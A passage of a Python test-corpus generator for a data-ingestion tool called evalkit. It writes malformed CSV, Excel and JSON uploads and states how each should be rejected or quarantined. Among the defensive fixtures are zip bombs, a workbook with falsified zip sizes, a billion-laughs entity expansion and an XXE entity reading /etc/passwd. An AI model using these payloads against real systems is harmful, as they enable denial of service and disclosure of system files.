"""Generate the bad-input corpus: files a provider might really upload, and what evalkit must do with each.

Nothing binary is committed: :func:`build` writes every file (about 190) into a folder at test time in
about a second; the 200 MB files are sparse, so they cost no disk or memory. Run it by hand to look at the
files::

    .venv/bin/python tests/badinput/corpus.py /tmp/corpus      # writes the files and an index.csv

Each :class:`Case` says what must happen, for every door (library, CLI, dashboard):

``reject``   the file cannot be read at all: :class:`~evalkit.errors.InputFileError` whose message
             matches ``message``; CLI exit 2 with a one-paragraph message; the store is unchanged.
``refuse``   the file is read but the upload is refused whole (identifying columns, another provider's
             programme): CLI ``ingest`` exit 1, message matches ``message``; the store is unchanged.
``empty``    a header and no data rows: nothing to store; CLI ``ingest`` exit 1; store unchanged.
``rows``     some rows are good and some bad: per table, exactly ``good`` rows are stored and ``bad``
             rows are quarantined, each with reasons matching ``reason``; nothing else changes.

Rows cases are judged against :func:`seed_frames` (provider ``North``: programmes P-N1, P-N2, participants
N0001-N0010, group sessions GS-N1-001..003; provider ``South``: programme P-S1, participant S0001) stored
first, as an ``evalkit ingest`` of that provider would see them.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import random
import struct
import sys
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

__all__ = ["Case", "build", "seed_csv", "PROVIDER"]

PROVIDER = "North"
MB = 1024 * 1024

# --------------------------------------------------------------------------- seed data (stored before each case)

SEED = {
    "programmes": (
        "programme_id,name,provider,format,mode,delivered_by\n"
        "P-N1,North drop-in group,North,group,in_person,volunteer_peers\n"
        "P-N2,North telephone support,North,one_to_one,telephone,volunteer_peers\n"
    ),
    "participants": "participant_id,programme_id,referral_date,referral_source\n" + "".join(
        f"N{i:04d},P-N{1 if i <= 5 else 2},2025-01-{i:02d},self\n" for i in range(1, 11)
    ),
    "group_sessions": "group_session_id,programme_id,session_date,facilitators,head_count\n" + "".join(
        f"GS-N1-00{i},P-N1,2025-02-0{i},2,6\n" for i in range(1, 4)
    ),
}
SEED_SOUTH = {
    "programmes": "programme_id,name,provider,format,mode,delivered_by\n"
                  "P-S1,South group,South,group,online,paid_peers\n",
    "participants": "participant_id,programme_id,referral_date\nS0001,P-S1,2025-01-03\n",
}


def seed_csv() -> dict[str, dict[str, str]]:
    """CSV text of the seed upload of each provider: ``{provider: {table: text}}``."""
    return {"North": dict(SEED), "South": dict(SEED_SOUTH)}


# --------------------------------------------------------------------------- the cases


@dataclass(frozen=True)
class Case:
    """One corpus file and what every door must do with it (see the module docstring)."""

    id: str
    file: str
    category: str
    expect: str
    message: str = ""
    tables: Mapping[str, tuple[int, int]] = field(default_factory=dict)
    reason: str = ""
    note: str = ""

    @property
    def path(self) -> str:
        """Path of the file inside the corpus folder."""
        return f"{self.id}/{self.file}"

    def __str__(self) -> str:
        return self.id


_Writer = Callable[[Path], None]
_CASES: list[tuple[Case, _Writer]] = []


def _add(slug: str, file: str, data: bytes | str | _Writer, category: str, expect: str, **kw: object) -> None:
    case = Case(id=f"{len(_CASES) + 1:03d}-{slug}", file=file, category=category, expect=expect, **kw)  # type: ignore[arg-type]

    def write(path: Path, data: bytes | str | _Writer = data) -> None:
        if callable(data):
            data(path)
        else:
            path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)

    _CASES.append((case, write))


def reject(slug: str, file: str, data: bytes | str | _Writer, category: str, message: str, **kw: object) -> None:
    _add(slug, file, data, category, "reject", message=message, **kw)


def rows(slug: str, file: str, data: bytes | str | _Writer, category: str, tables: Mapping[str, tuple[int, int]],
         reason: str = "", **kw: object) -> None:
    _add(slug, file, data, category, "rows", tables=dict(tables), reason=reason, **kw)


# ----------------------------------------------------------------- text building blocks

PART_H = "participant_id,programme_id,referral_date,referral_source,deprivation_decile,baby_age_weeks"
ITEMS = ",".join(f"item_{i}" for i in range(1, 11))
MEAS_H = f"participant_id,programme_id,instrument,completed_on,{ITEMS},total"
CONT_H = "programme_id,participant_id,contact_date,kind,status,duration_minutes"
PROG_H = "programme_id,name,provider,format,mode,delivered_by,eligibility"


def part_rows(n: int, start: int = 1001) -> list[str]:
    """``n`` valid new participants of P-N1 (ids N1001...)."""
    return [f"N{start + i},P-N1,2025-01-{i % 28 + 1:02d},self,{i % 10 + 1},{i % 40}" for i in range(n)]


def meas_rows(n: int, day: int = 1) -> list[str]:
    """``n`` valid EPDS questionnaires of the stored participants N0001-N0005 (P-N1)."""
    return [f"N{i % 5 + 1:04d},P-N1,epds,2025-02-{day + i:02d},1,1,0,0,1,2,0,1,0,0," for i in range(n)]


def cont_rows(n: int, day: int = 1) -> list[str]:
    """``n`` valid telephone contacts of the stored participants N0006-N0010 (P-N2)."""
    return [f"P-N2,N{i % 5 + 6:04d},2025-03-{day + i:02d},telephone,attended,30" for i in range(n)]


def prog_rows(n: int, start: int = 3) -> list[str]:
    return [f"P-N{start + i},North programme {start + i},North,group,in_person,volunteer_peers,Anyone"
            for i in range(n)]


def csv_text(header: str, lines: list[str], *, sep: str = ",", eol: str = "\n") -> str:
    return eol.join([header.replace(",", sep), *(ln.replace(",", sep) for ln in lines)]) + eol


def _xlsx(sheets: Mapping[str, list[list[object]]], *, hidden: Mapping[str, str] | None = None,
          merge: Mapping[str, str] | None = None) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    for name, grid in sheets.items():
        ws = wb.create_sheet(name)
        for row in grid:
            ws.append(row)
        if hidden and name in hidden:
            ws.sheet_state = hidden[name]
        if merge and name in merge:
            ws.merge_cells(merge[name])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _grid(header: str, lines: list[str]) -> list[list[object]]:
    return [header.split(","), *(ln.split(",") for ln in lines)]


def _rezip(data: bytes, replace: Mapping[str, bytes], *, add: Mapping[str, bytes] | None = None,
           compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as z:
        for info in src.infolist():
            z.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, body in (add or {}).items():
            z.writestr(name, body)
    return out.getvalue()


def _rand(seed: int, n: int) -> bytes:
    return random.Random(seed).randbytes(n)


def _sparse(header: bytes, size: int) -> _Writer:
    def write(path: Path) -> None:
        with path.open("wb") as fh:
            fh.write(header)
            fh.truncate(size)

    return write


def _good_book() -> bytes:
    return _xlsx({"participants": _grid(PART_H, part_rows(3))})


def _shared_strings_bomb(path: Path) -> None:
    """A workbook whose shared-strings part (parsed whole when a workbook is opened) expands 1,000-fold."""
    base = _good_book()
    sst = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/' \
          b'2006/main" count="1" uniqueCount="1"><si><t>' + b"A" * (24 * MB) + b"</t></si></sst>"
    rels = zipfile.ZipFile(io.BytesIO(base)).read("xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rIdSST" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'sharedStrings" Target="sharedStrings.xml"/></Relationships>')
    types = zipfile.ZipFile(io.BytesIO(base)).read("[Content_Types].xml").replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
                     b'officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    path.write_bytes(_rezip(base, {"xl/_rels/workbook.xml.rels": rels, "[Content_Types].xml": types},
                            add={"xl/sharedStrings.xml": sst}))


def _sheet_bomb(path: Path) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
        with z.open("xl/worksheets/sheet1.xml", "w") as fh:
            for _ in range(16):
                fh.write(b"<row/>" * (MB // 6))
    path.write_bytes(out.getvalue())


def _lying_zip(path: Path) -> None:
    """A workbook whose zip directory claims a 4 GB part (sizes patched in the central directory)."""
    data = bytearray(_good_book())
    i = data.find(b"PK\x01\x02")
    while i != -1:
        struct.pack_into("<I", data, i + 24, 0xFFFFFFF0)  # uncompressed size in the central directory entry
        i = data.find(b"PK\x01\x02", i + 4)
    path.write_bytes(bytes(data))


def _formulas_cached(path: Path) -> None:
    """Formulas with the values Excel saved for them (cells read as their values, never as formulas)."""
    base = _xlsx({"participants": [PART_H.split(","), ["N1001", "P-N1", "=DATE(2025,1,2)", '="se"&"lf"', 3, 1],
                                   ["N1002", "P-N1", "2025-01-03", "=HYPERLINK(\"http://x\",\"gp\")", 4, 2]]})
    sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml").decode()
    sheet = sheet.replace('<c r="C2"><f>DATE(2025,1,2)</f><v /></c>',
                          '<c r="C2" t="str"><f>DATE(2025,1,2)</f><v>2025-01-02</v></c>')
    sheet = sheet.replace('<c r="D2"><f>"se"&amp;"lf"</f><v /></c>', '<c r="D2" t="str"><f>"se"&amp;"lf"</f><v>self</v></c>')
    sheet = sheet.replace('<c r="D3"><f>HYPERLINK("http://x","gp")</f><v /></c>',
                          '<c r="D3" t="str"><f>HYPERLINK("http://x","gp")</f><v>gp</v></c>')
    path.write_bytes(_rezip(base, {"xl/worksheets/sheet1.xml": sheet.encode()}))


def _xml_attack(entity: str) -> _Writer:
    def write(path: Path) -> None:
        base = _good_book()
        sheet = zipfile.ZipFile(io.BytesIO(base)).read("xl/worksheets/sheet1.xml").decode()
        body = sheet.split("?>", 1)[1] if sheet.startswith("<?xml") else sheet
        body = body.replace("<t>N1001</t>", "<t>&x9;</t>")
        path.write_bytes(_rezip(base, {"xl/worksheets/sheet1.xml": (
            '<?xml version="1.0"?><!DOCTYPE worksheet [' + entity + "]>" + body).encode()}))

    return write


LAUGHS = '<!ENTITY x0 "lol">' + "".join(f'<!ENTITY x{i} "{("&x" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
XXE = '<!ENTITY x9 SYSTEM "file:///etc/passwd">'


def _ole(path: Path) -> None:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + _rand(7, 4000))


def _nested_json(depth: int) -> str:
    return "[" * depth + "]" * depth


def _fhir(items: object, **extra: object) -> dict:
    return {"resourceType": "QuestionnaireResponse", "status": "completed",
            "questionnaire": "http://loinc.org/q/71354-5", "subject": {"reference": "Patient/N0001"},
            "authored": "2025-02-01", "item": items, **extra}


def _epds_items(values: list[object]) -> list[dict]:
    return [{"linkId": f"epds-{i}", "answer": [{"valueInteger": v}]} for i, v in enumerate(values, start=1)]


def _truncate(data: bytes, fraction: float) -> bytes:
    return data[: max(1, int(len(data) * fraction))]


# =========================================================================== the corpus

# ---- A. empty, blank, truncated, header only
reject("empty-csv", "participants.csv", b"", "empty", r"empty \(0 bytes\)")
reject("empty-xlsx", "participants.xlsx", b"", "empty", r"empty \(0 bytes\)")
reject("empty-tsv", "participants.tsv", b"", "empty", r"empty \(0 bytes\)")
reject("empty-json", "measures.json", b"", "empty", r"empty \(0 bytes\)")
reject("empty-noext", "participants", b"", "empty", r"empty \(0 bytes\)")
reject("blank-lines", "participants.csv", "\n\n   \n\t\n", "empty", r"no text in it")
reject("bom-only", "participants.csv", codecs.BOM_UTF8, "empty", r"no text in it")
reject("utf16-bom-only", "participants.csv", codecs.BOM_UTF16_LE, "empty", r"no text in it")
reject("crlf-only", "participants.csv", "\r\n" * 50, "empty", r"no text in it")
reject("commas-only", "participants.csv", ",,,,\n,,,,\n", "empty", r"no header row")
reject("blank-json", "measures.json", "   \n", "empty", r"empty")
_add("header-only", "participants.csv", PART_H + "\n", "empty", "empty", message=r"no data rows")
_add("header-only-blank-lines", "participants.csv", PART_H + "\n\n\n,,,,,\n", "empty", "empty",
     message=r"no data rows")
_add("header-only-xlsx", "participants.xlsx", _xlsx({"participants": [PART_H.split(",")]}), "empty", "empty",
     message=r"no data rows")
_add("header-only-semicolon", "measures.csv", MEAS_H.replace(",", ";") + "\r\n", "empty", "empty",
     message=r"no data rows")
rows("truncated-mid-row", "participants.csv", csv_text(PART_H, part_rows(5))[:-12], "truncated",
     {"participants": (4, 1)}, r"P-N|is blank|not a|not in the list|below|above")
rows("truncated-in-quotes", "participants.csv", csv_text(PART_H, part_rows(4)) + 'N1099,"P-N1,2025-01', "truncated",
     {"participants": (4, 1)}, r"blank|programme")
rows("no-final-newline", "measures.csv", csv_text(MEAS_H, meas_rows(4)).rstrip("\n"), "truncated",
     {"measures": (4, 0)})
for _frac in (0.05, 0.3, 0.5, 0.7, 0.9, 0.99):
    reject(f"truncated-xlsx-{int(_frac * 100)}", "participants.xlsx", _truncate(_good_book(), _frac), "truncated",
           r"not an Excel workbook|damaged|cannot be opened")
reject("truncated-json", "measures.json", json.dumps([_fhir(_epds_items([1] * 10))])[:-40], "truncated",
       r"not valid JSON")

# ---- B. binary junk and wrong formats
for _seed in range(4):
    reject(f"random-bytes-{_seed}", "participants.csv", _rand(_seed, 5000), "binary",
           r"binary data|not a CSV|not text")
reject("png-as-csv", "participants.csv", b"\x89PNG\r\n\x1a\n" + _rand(11, 3000), "binary", r"binary data")
reject("gzip-as-csv", "contacts.csv", b"\x1f\x8b\x08\x00" + _rand(12, 3000), "binary", r"binary data")
reject("elf-as-csv", "measures.csv", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64 + _rand(13, 2000), "binary",
       r"binary data")
reject("pdf-as-csv", "participants.csv", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\x00\x00" + _rand(14, 3000),
       "binary", r"binary data")
reject("control-chars", "participants.csv", ("participant_id,programme_id\n" + "\x01\x02\x03\x04\x05" * 200),
       "binary", r"binary data")
reject("nul-in-text", "participants.csv", csv_text(PART_H, part_rows(3)) + "N1009,P-N1\x00,2025-01-01\n",
       "binary", r"binary data")
reject("xlsx-renamed-csv", "participants.csv", _good_book(), "wrong format", r"zip archive or an Excel workbook")
reject("zip-renamed-csv", "contacts.csv", _rezip(_good_book(), {}), "wrong format", r"zip archive")
reject("xls-renamed-csv", "participants.csv", _ole, "wrong format", r"old-style Excel")
reject("xls-renamed-xlsx", "participants.xlsx", _ole, "wrong format", r"old-style Excel|password")
reject("xls-extension", "participants.xls", _ole, "wrong format", r"cannot read \.xls files")
reject("ods-extension", "participants.ods", _rand(15, 500), "wrong format", r"cannot read \.ods files")
reject("numbers-extension", "participants.numbers", _rand(16, 500), "wrong format", r"cannot read \.numbers")
reject("pdf-extension", "participants.pdf", b"%PDF-1.4\n", "wrong format", r"does not know how to read '\.pdf'")
reject("docx-extension", "participants.docx", _good_book(), "wrong format", r"does not know how to read '\.docx'")
reject("sav-extension", "participants.sav", _rand(17, 500), "wrong format", r"does not know how to read")
reject("text-as-xlsx", "participants.xlsx", csv_text(PART_H, part_rows(3)), "wrong format",
       r"not an Excel workbook.*zip archive")
reject("random-as-xlsx", "participants.xlsx", _rand(18, 4000), "wrong format", r"not an Excel workbook")
reject("zip-not-workbook", "participants.xlsx", lambda p: p.write_bytes(_zip_with({"hello.txt": b"hi"})),
       "wrong format", r"not an Excel workbook \(it has no workbook part\)")
reject("random-as-json", "measures.json", _rand(19, 3000), "wrong format", r"not UTF-8|not valid JSON")
reject("csv-as-json", "measures.json", csv_text(MEAS_H, meas_rows(2)), "wrong format", r"not valid JSON")
reject("json-numbers", "measures.json", "[1, 2, 3]", "wrong format", r"no QuestionnaireResponse")
reject("json-string", "measures.json", '"hello"', "wrong format", r"no QuestionnaireResponse")
reject("json-patient", "measures.json", json.dumps({"resourceType": "Patient", "id": "x"}), "wrong format",
       r"no QuestionnaireResponse")
rows("html-as-csv", "participants.csv", "<!DOCTYPE html>\n<html>\n<body><p>Session expired</p></body>\n</html>\n",
     "wrong format", {"participants": (0, 3)}, r"missing", note="every line set aside: the columns are missing")


def _zip_with(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name, body in parts.items():
            z.writestr(name, body)
    return out.getvalue()


# ---- C. hostile archives and XML
reject("zip-bomb-sheet", "participants.xlsx", _sheet_bomb, "zip bomb", r"compressed [\d,]+ times")
reject("zip-bomb-shared-strings", "participants.xlsx", _shared_strings_bomb, "zip bomb", r"compressed [\d,]+ times")
reject("zip-lying-sizes", "participants.xlsx", _lying_zip, "zip bomb", r"would expand to [\d,]+ MB|damaged")
reject("billion-laughs", "participants.xlsx", _xml_attack(LAUGHS), "xml attack",
       r"cannot be opened|damaged|cannot be read")
reject("xxe-file", "participants.xlsx", _xml_attack(XXE), "xml attack", r"cannot be opened|damaged|cannot be read|"
       r"undefined entity")
reject("crc-corrupt", "participants.xlsx", lambda p: p.write_bytes(_corrupt(_good_book())), "truncated",
       r"damaged|cannot be opened|Bad CRC|cannot be read")


def _corrupt(data: bytes) -> bytes:
    b = bytearray(data)
    i = b.find(b"xl/worksheets/sheet1.xml") + 40
    for k in range(i, i + 30):
        b[k] ^= 0x5A
    return bytes(b)


# ---- D. size and shape
reject("ten-thousand-columns", "participants.csv",
       ",".join(f"col_{i}" for i in range(10_000)) + "\n" + ",".join("1" for _ in range(10_000)) + "\n",
       "size", r"10,000 columns, more than the 1,000")
reject("ten-thousand-columns-xlsx", "participants.xlsx",
       lambda p: p.write_bytes(_xlsx({"participants": [[f"c{i}" for i in range(1500)], [1] * 1500]})),
       "size", r"more than 1,000 columns")
reject("two-hundred-mb-csv", "participants.csv", _sparse((PART_H + "\n").encode(), 200 * MB + 1), "size",
       r"200\.0 MB, more than the 200\.0 MB")
reject("two-hundred-mb-xlsx", "participants.xlsx", _sparse(b"PK\x03\x04", 210 * MB), "size",
       r"210\.0 MB, more than the 200\.0 MB")
reject("two-hundred-mb-json", "measures.json", _sparse(b"[", 201 * MB), "size", r"more than the 200\.0 MB")
reject("huge-cell-ragged", "participants.csv",
       csv_text(PART_H, part_rows(2)) + "N1099,P-N1,2025-01-01,self,1,1,extra\n" + 'N2000,"' + "x" * (11 * MB) + '"\n',
       "size", r"cannot be split into cells|field larger")
rows("one-mb-cell", "programmes.csv",
     csv_text(PROG_H, prog_rows(2)) + "P-N9,Big,North,group,in_person,volunteer_peers," + "y" * MB + "\n",
     "size", {"programmes": (3, 0)})

# ---- E. encodings
_PROG_UNICODE = ["P-N3,Café crèche group,North,group,in_person,volunteer_peers,Mums £5 “tea”",
                 "P-N4,Grŵp cymraeg,North,group,online,paid_peers,Ar-lein"]
UNICODE_NAMES = ("Café crèche group", "Grŵp cymraeg", "Café group", "Crèche group", "Grou\u200bp \u202eevil\u202c")
"""Programme names the encoding files hold: stored exactly so, never as mojibake."""
rows("utf8-bom", "programmes.csv", codecs.BOM_UTF8 + csv_text(PROG_H, _PROG_UNICODE).encode(), "encoding",
     {"programmes": (2, 0)}, note="name stored as written")
rows("utf16-le-bom", "programmes.csv", csv_text(PROG_H, _PROG_UNICODE, sep="\t").encode("utf-16"), "encoding",
     {"programmes": (2, 0)}, note="name stored as written")
rows("utf16-be-bom", "programmes.csv", codecs.BOM_UTF16_BE + csv_text(PROG_H, _PROG_UNICODE).encode("utf-16-be"),
     "encoding", {"programmes": (2, 0)}, note="name stored as written")
rows("windows-1252", "programmes.csv", csv_text(PROG_H, [_PROG_UNICODE[0]]).encode("cp1252"), "encoding",
     {"programmes": (1, 0)}, note="name stored as written")
rows("latin-1", "programmes.csv", csv_text(PROG_H, ["P-N3,Café group,North,group,in_person,volunteer_peers,x"])
     .encode("latin-1"), "encoding", {"programmes": (1, 0)}, note="name stored as written")
rows("mixed-utf8-cp1252", "programmes.csv",
     (PROG_H + "\n").encode() + "P-N3,Café group,North,group,in_person,volunteer_peers,x\n".encode()
     + "P-N4,Crèche group,North,group,in_person,volunteer_peers,y\n".encode("cp1252"), "encoding",
     {"programmes": (2, 0)}, note="name stored as written")
reject("utf16-no-bom", "participants.csv", csv_text(PART_H, part_rows(3)).encode("utf-16-le"), "encoding",
       r"binary data")
rows("zero-width-and-rtl", "programmes.csv",
     csv_text(PROG_H, ["P-N3,Grou\u200bp \u202eevil\u202c,North,group,in_person,volunteer_peers,\U0001f476 babies"]),
     "encoding", {"programmes": (1, 0)})

# ---- F. delimiters, quotes, line endings, headers
rows("semicolon", "participants.csv", csv_text(PART_H, part_rows(4), sep=";"), "delimiter", {"participants": (4, 0)})
rows("tab-in-csv", "participants.csv", csv_text(PART_H, part_rows(4), sep="\t"), "delimiter",
     {"participants": (4, 0)})
rows("tab-tsv", "participants.tsv", csv_text(PART_H, part_rows(4), sep="\t"), "delimiter", {"participants": (4, 0)})
rows("bar", "participants.txt", csv_text(PART_H, part_rows(4), sep="|"), "delimiter", {"participants": (4, 0)})
rows("colon-delimiter", "participants.csv", csv_text(PART_H, part_rows(3), sep=":"), "delimiter",
     {"participants": (0, 3)}, r"missing")
rows("header-comma-rows-semicolon", "participants.csv",
     PART_H + "\n" + "\n".join(r.replace(",", ";") for r in part_rows(3)) + "\n", "delimiter",
     {"participants": (0, 3)}, r"blank|not a")
rows("crlf", "participants.csv", csv_text(PART_H, part_rows(4), eol="\r\n"), "line endings", {"participants": (4, 0)})
rows("cr-only", "participants.csv", csv_text(PART_H, part_rows(4), eol="\r"), "line endings", {"participants": (4, 0)})
rows("mixed-eol", "participants.csv", PART_H + "\r\n" + "\n".join(part_rows(2)) + "\r" + "\r\n".join(part_rows(2, 1050))
     + "\n", "line endings", {"participants": (4, 0)})
rows("ragged-extra-cells", "participants.csv", csv_text(PART_H, [*part_rows(3), "N1099,P-N1,2025-01-05,self,3,2,oops"]),
     "ragged", {"participants": (3, 1)}, r"cells but the header has")
rows("ragged-short-rows", "participants.csv", csv_text(PART_H, [*part_rows(3), "N1099,P-N1,2025-01-05"]), "ragged",
     {"participants": (4, 0)})
rows("trailing-commas", "participants.csv", csv_text(PART_H, [r + ",,," for r in part_rows(3)]), "ragged",
     {"participants": (3, 0)})
rows("quoted-newline", "programmes.csv", csv_text(PROG_H, ['P-N3,"Two\nline name",North,group,in_person,'
                                                          'volunteer_peers,"a ""quoted"" word"']), "quotes",
     {"programmes": (1, 0)})
rows("unclosed-quote-midfile", "participants.csv",
     csv_text(PART_H, [*part_rows(2), 'N1098,"P-N1,2025-01-01,self,1,1', *part_rows(2, 1060)]), "quotes",
     {"participants": (2, 1)}, r"blank|not a|below|above|P-N1")
rows("headers-shouted", "participants.csv", csv_text(PART_H.upper().replace("_", " "), part_rows(3)), "headers",
     {"participants": (3, 0)})
rows("headers-bom-and-spaces", "participants.csv",
     codecs.BOM_UTF8 + csv_text(", ".join(f"  {h} " for h in PART_H.split(",")), part_rows(3)).encode(), "headers",
     {"participants": (3, 0)})
rows("duplicate-header", "participants.csv",
     csv_text(PART_H + ",participant_id", [r + ",X999" for r in part_rows(3)]), "headers", {"participants": (3, 0)})
rows("blank-header-with-data", "participants.csv", csv_text(PART_H + ",", [r + ",note" for r in part_rows(3)]),
     "headers", {"participants": (3, 0)})
rows("unknown-extra-columns", "participants.csv", csv_text(PART_H + ",favourite_colour,shoe_size",
                                                           [r + ",blue,5" for r in part_rows(3)]),
     "headers", {"participants": (3, 0)})
rows("missing-required-column", "participants.csv",
     csv_text("participant_id,referral_date", ["N1001,2025-01-01", "N1002,2025-01-02"]), "headers",
     {"participants": (0, 2)}, r"programme_id' is missing")
reject("unknown-table", "data.csv", csv_text("foo,bar,baz", ["1,2,3"]), "headers", r"cannot tell which table")
rows("header-detected-table", "export.csv", csv_text(MEAS_H, meas_rows(3)), "headers", {"measures": (3, 0)})

# ---- G. mislabelled tables
reject("participants-as-contacts", "contacts.csv", csv_text(PART_H, part_rows(3)), "mislabelled",
       r"says it holds the contacts table.*participants table")
reject("measures-as-participants", "participants.csv", csv_text(MEAS_H, meas_rows(3)), "mislabelled",
       r"says it holds the participants table.*measures table")
reject("programmes-as-measures", "measures.csv", csv_text(PROG_H, prog_rows(2)), "mislabelled",
       r"says it holds the measures table.*programmes table")
reject("contacts-as-group-sessions", "group_sessions.csv", csv_text(CONT_H, cont_rows(3)), "mislabelled",
       r"says it holds the group_sessions table.*contacts table")
reject("participants-sheet-named-contacts", "upload.xlsx",
       lambda p: p.write_bytes(_xlsx({"Contacts": _grid(PART_H, part_rows(3))})), "mislabelled",
       r"sheet 'Contacts'.*says it holds the contacts table")
rows("participants-sheet-named-contacts-among-others", "upload.xlsx",
     lambda p: p.write_bytes(_xlsx({"Contacts": _grid(PART_H, part_rows(2)), "measures": _grid(MEAS_H, meas_rows(2))})),
     "mislabelled", {"contacts": (0, 2), "measures": (2, 0)}, r"missing",
     note="several named sheets are not checked against their headers: rows quarantined, not refused")

# ---- H. Excel structure
rows("merged-cells", "participants.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": _grid(PART_H, part_rows(3))}, merge={"participants": "B2:B4"})),
     "excel", {"participants": (3, 0)}, note="a value merged down the column is every covered row's")
rows("formulas-no-cached-value", "participants.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": [PART_H.split(","), ["N1001", "P-N1", "=DATE(2025,1,2)", "self"],
                                                     ['="N"&2', "P-N1", "2025-01-03", "gp"]]})),
     "excel", {"participants": (0, 2)}, r"blank")
rows("formulas-cached-values", "participants.xlsx", _formulas_cached, "excel", {"participants": (2, 0)})
rows("title-rows-above-header", "participants.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": [["Participants export - Northside"], [], *_grid(PART_H, part_rows(3))]})),
     "excel", {"participants": (3, 0)}, note="the header is found below the title, which is reported")
rows("two-header-rows", "participants.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": [["Referral", "", "Dates", ""], *_grid(PART_H, part_rows(3))]})),
     "excel", {"participants": (3, 0)}, note="the group words over the header are reported, not read")
rows("hidden-junk-sheet", "upload.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": _grid(PART_H, part_rows(3)), "codes": [["code", "label"], ["a", "b"]]},
                                   hidden={"codes": "hidden"})), "excel", {"participants": (3, 0)})
rows("very-hidden-data-sheet", "upload.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": _grid(PART_H, part_rows(3)),
                                    "Sheet9": _grid(PART_H, part_rows(2, 1200))}, hidden={"Sheet9": "veryHidden"})),
     "excel", {"participants": (5, 0)}, note="hidden sheets are read like any other")
rows("excel-serial-dates", "participants.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": [PART_H.split(","), ["N1001", "P-N1", 45000, "self"],
                                                     ["N1002", "P-N1", "2025-01-03", "self"],
                                                     ["N1003", "P-N1", 12345, "self"]]})),
     "excel", {"participants": (2, 1)}, r"not a date",
     note="a General cell holding Excel's number for a date (45000: 2023-03-15) is read, with a warning; "
          "a number outside 2000-2099 is not")
rows("excel-serial-date-times", "participants.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": [PART_H.split(","), ["N1001", "P-N1", 45720.5, "self"],
                                                     ["N1002", "P-N1", "2025-01-03", "self"],
                                                     ["N1003", "P-N1", 12345.25, "self"]]})),
     "excel", {"participants": (2, 1)}, r"not a date",
     note="a General cell holding Excel's number for a date and time (45720.5: 2025-03-04 at noon) is read as "
          "its date, with a warning that the time was dropped; a number outside 2000-2099 is not")
rows("excel-error-cells", "participants.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": [PART_H.split(","), ["N1001", "P-N1", "#N/A", "self"],
                                                     ["N1002", "P-N1", "2025-01-03", "#DIV/0!"]]})),
     "excel", {"participants": (0, 2)}, r"not a date|not an allowed code")
rows("excel-typed-cells", "participants.xlsx",
     lambda p: p.write_bytes(_xlsx({"participants": [PART_H.split(",") + ["took_up"],
                                                     ["N1001", "P-N1", __import__("datetime").datetime(2025, 1, 2),
                                                      "self", 3.0, 1.5, True],
                                                     ["N1002", "P-N1", __import__("datetime").date(2025, 1, 3), "gp",
                                                      7, 0, False]]})),
     "excel", {"participants": (2, 0)})
rows("xlsm-extension", "participants.xlsm", _good_book(), "excel", {"participants": (3, 0)})
rows("many-empty-sheets", "upload.xlsx",
     lambda p: p.write_bytes(_xlsx({**{f"Sheet{i}": [] for i in range(1, 30)}, "participants": _grid(PART_H, part_rows(2))})),
     "excel", {"participants": (2, 0)})
reject("workbook-no-data", "participants.xlsx", lambda p: p.write_bytes(_xlsx({"Sheet1": [], "Sheet2": []})), "excel",
       r"no sheet with any data")

# ---- I. numbers: huge, negative, fractional, text, NaN, infinity
_PART_BAD = [
    ("deprivation_decile", "99999999999999999999999", r"whole number"),
    ("deprivation_decile", "9223372036854775808", r"whole number"),
    ("deprivation_decile", "-1", r"below the minimum"),
    ("deprivation_decile", "0", r"below the minimum"),
    ("deprivation_decile", "11", r"above the maximum"),
    ("deprivation_decile", "3.5", r"whole number"),
    ("deprivation_decile", "NaN", r"whole number|not a number"),
    ("deprivation_decile", "inf", r"whole number|not a number"),
    ("deprivation_decile", "three", r"whole number"),
    ("deprivation_decile", "1e19", r"whole number"),
    ("baby_age_weeks", "1e308", r"above the maximum"),
    ("baby_age_weeks", "1e400", r"not a number|above the maximum"),
    ("baby_age_weeks", "-0.5", r"below the minimum"),
    ("baby_age_weeks", "Infinity", r"not a number"),
    ("baby_age_weeks", "-inf", r"not a number"),
    ("baby_age_weeks", "nan", r"not a number"),
    ("baby_age_weeks", "12 weeks", r"not a number"),
    ("baby_age_weeks", "0x1F", r"not a number"),
]
for _col, _val, _why in _PART_BAD:
    _i = PART_H.split(",").index(_col)
    _bad = "N1099,P-N1,2025-01-05,self,5,2".split(",")
    _bad[_i] = _val
    rows(f"participants-{_col}-{_val}".replace(".", "_"), "participants.csv",
         csv_text(PART_H, [*part_rows(3), ",".join(_bad)]), "numbers", {"participants": (3, 1)}, _why)

_ITEM_BAD = [("1e308", r"outside the range"), ("-1", r"outside the range"), ("1.5", r"not an item score"),
